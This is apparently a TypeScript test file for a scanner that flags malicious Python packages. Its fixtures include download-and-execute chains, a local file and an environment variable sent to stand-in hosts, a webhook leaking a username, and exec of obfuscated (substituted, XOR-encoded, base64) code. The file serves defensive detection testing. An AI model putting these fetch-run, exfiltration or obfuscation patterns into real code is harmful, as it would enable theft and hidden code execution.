/** What functions that nothing loads are handed: their callers' values, whichever is defined first, and what constructors put in objects. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { examineClosely } from '../../src/engine/examine.ts';
import { Budget } from '../../src/kit/budget.ts';
import type { Call, SourceUnit } from '../../src/model/source.ts';
import { forgeSdist } from '../forge/forge.ts';

test('static methods get what the function that chains them hands on', () => {
  const calls = callsOf(`import os, urllib.request
class Steps:
    @staticmethod
    def find():
        return urllib.request.urlopen("https://files.example/which").read().decode()
    @staticmethod
    def save(address):
        urllib.request.urlretrieve(address, "/tmp/forged-part")
        return "/tmp/forged-part"
    @staticmethod
    def start(path):
        os.system(path)
def begin():
    Steps.start(Steps.save(Steps.find()))
`);
  assert.equal(calls.find(({ name }) => name === 'os.system')?.roles.command?.text, '/tmp/forged-part');
  assert.ok(calls.some(({ name, roles }) => name.endsWith('urlretrieve') && roles.address?.origins.some(({ source }) => source === 'network')));
});

test('a method defined before its caller is followed again for the file it is handed', () => {
  const sent = sentBy(`import os, requests
class Bot:
    def send(self, data):
        requests.post("https://chat.example/", data=data)
    def collect(self):
        self.send(open(os.path.expanduser("~/notes.txt")).read())
`);
  assert.ok(sent.includes('file'));
});

test('a method that nothing calls sees what the constructor was given elsewhere', () => {
  const calls = callsOf(`import requests
class Bot:
    def __init__(self, token):
        self.address = "https://chat.example/bot" + token
    def on_message(self, text):
        requests.post(self.address, data=text)
def main():
    Bot("forged-token")
`);
  assert.ok(calls.some(({ name, roles }) => name === 'requests.post' && roles.address?.text === 'https://chat.example/botforged-token'));
});

test('a substitution table built in a comprehension within another keeps the outer variable', () => {
  const table = Object.fromEntries([...'abcdefghijklmnopqrstuvwxyz ()".'].map((char, i, all) => [char, all[(i + 7) % all.length] ?? '']));
  const hidden = [...'import os\nos.system("echo swapped")'].map((char) => table[char] ?? char).join('');
  const units = unitsOf(`exec("".join([y[0] for x in [x for x in ${JSON.stringify(hidden)}] for y in [[x[0], x[1]] for x in ${JSON.stringify({ ...table, '\n': '\n' })}.items()] if x == y[1]]))\n`);
  assert.ok(units.some((unit) => unit.layers.length > 0 && unit.calls.some(({ roles }) => roles.command?.text === 'echo swapped')));
});

test('a function that nothing calls unpacks a long literal to its end', () => {
  const code = `${'# a line of padding\n'.repeat(150)}import os\nos.system("echo unpacked")\n`;
  const hidden = [...code].map((char) => `\\x${(char.charCodeAt(0) ^ 5).toString(16).padStart(2, '0')}`).join('');
  const units = unitsOf(`def colour():\n    text = "${hidden}"\n    out = ""\n    for i in range(len(text)):\n        char = text[i]\n        out += chr(ord(char) ^ 5)\n    exec(out)\n`);
  assert.ok(units.some((unit) => unit.layers.length > 0 && unit.calls.some(({ roles }) => roles.command?.text === 'echo unpacked')));
});

function unitsOf(source: string): readonly SourceUnit[] {
  return examineClosely({ target: 'forged', name: 'forged-1.0.tar.gz', bytes: forgeSdist('forged', '1.0', { 'forged/__init__.py': source }) }, { budget: new Budget() }).view.units;
}

function callsOf(source: string): readonly Call[] {
  return unitsOf(source).flatMap((unit) => unit.calls);
}

function sentBy(source: string): readonly string[] {
  return callsOf(source).filter(({ name }) => name === 'requests.post').flatMap(({ roles }) => roles.data?.origins.map(({ source: from }) => from) ?? []);
}

test('what a function gave for a download it does not give to everybody', () => {
  const commands = callsOf(`import os, requests
def third(given):
    os.system(keep(given))
def second(given):
    os.system(keep(requests.get("https://files.example/part").text))
def first(given):
    keep(given)
def keep(text):
    open("forged.log", "a").write("kept")
    return text
`).filter(({ name }) => name === 'os.system');
  assert.deepEqual(commands.map(({ within, roles }) => [within, roles.command?.origins.some(({ source }) => source === 'network') === true]), [['second', true], ['third', false]]);
});

test('a form or message holds what it was filled with, and an open file what is in it', () => {
  const sent = (source: string): readonly string[] =>
    callsOf(`import aiohttp, discord, os\nasync def report(session, hook):\n${source}`).filter(({ does }) => does.includes('net.send')).flatMap(({ roles }) => roles.data?.origins.map(({ source: from, detail }) => `${from} ${detail ?? ''}`) ?? []);
  assert.deepEqual(sent('    form = aiohttp.FormData()\n    form.add_field("file", open("notes.txt", "rb"))\n    async with aiohttp.ClientSession() as s:\n        await s.post("https://files.example/", data=form)\n'), ['file notes.txt']);
  assert.deepEqual(sent('    note = discord.Embed(title="x")\n    note.add_field(name="who", value=os.getenv("USERNAME"))\n    discord.SyncWebhook.from_url("https://files.example/").send(embed=note)\n'), ['environment USERNAME']);
  assert.deepEqual(sent('    form = aiohttp.FormData()\n    form.add_field("file", "words")\n    async with aiohttp.ClientSession() as s:\n        await s.post("https://files.example/", data=form)\n'), []);
});

test('an address put together of many possible parts still begins as it stands', () => {
  const [call] = callsOf(`import os, requests
def part(name):
    value = os.environ.get(name)
    if value is None:
        value = "none"
    return value
def report(a, b):
    who = "one" if a else "two" if b else "three"
    where = "here" if a else "there" if b else "somewhere"
    requests.get("https://files.example/" + who + "/" + where + "/" + part("FORGED_KEY"))
`).filter(({ name }) => name === 'requests.get');
  assert.equal(call?.roles.address?.text?.startsWith('https://files.example/one/here/'), true);
  assert.ok(call?.roles.address?.origins.some(({ detail }) => detail === 'FORGED_KEY'));
});

test('what is typed into a shell that waits for it is a command', () => {
  const typed = (program: string): boolean => callsOf(`import subprocess\nsubprocess.run(${program}, input="echo typed", text=True)\n`).some(({ does, roles }) => does.includes('process.shell') && roles.command?.text === 'echo typed');
  assert.ok(typed('["bash"]'));
  assert.ok(!typed('["sort"]'));
});

test('a payload of bytes is no sign of a large product', () => {
  const code = 'print("forged")\n'.repeat(20);
  const payload = Buffer.from(code).toString('base64');
  const judged = (literal: string): number =>
    examineClosely({ target: 'forged', name: 'forged-1.0.tar.gz', bytes: forgeSdist('forged', '1.0', { 'forged/__init__.py': '', 'forged/tool.py': `import base64\n${literal}\nexec(base64.b64decode(b"${payload}"))\n` }) }, { budget: new Budget() }).report.score;
  const words = Array.from({ length: 5000 }, (_, i) => `word${i} = ${i * 7}`).join('\n');
  assert.equal(judged(`blob = b"${'QUJDRA'.repeat(20_000)}"`), judged('blob = b""'));
  assert.ok(judged(words) < judged('blob = b""'));
});
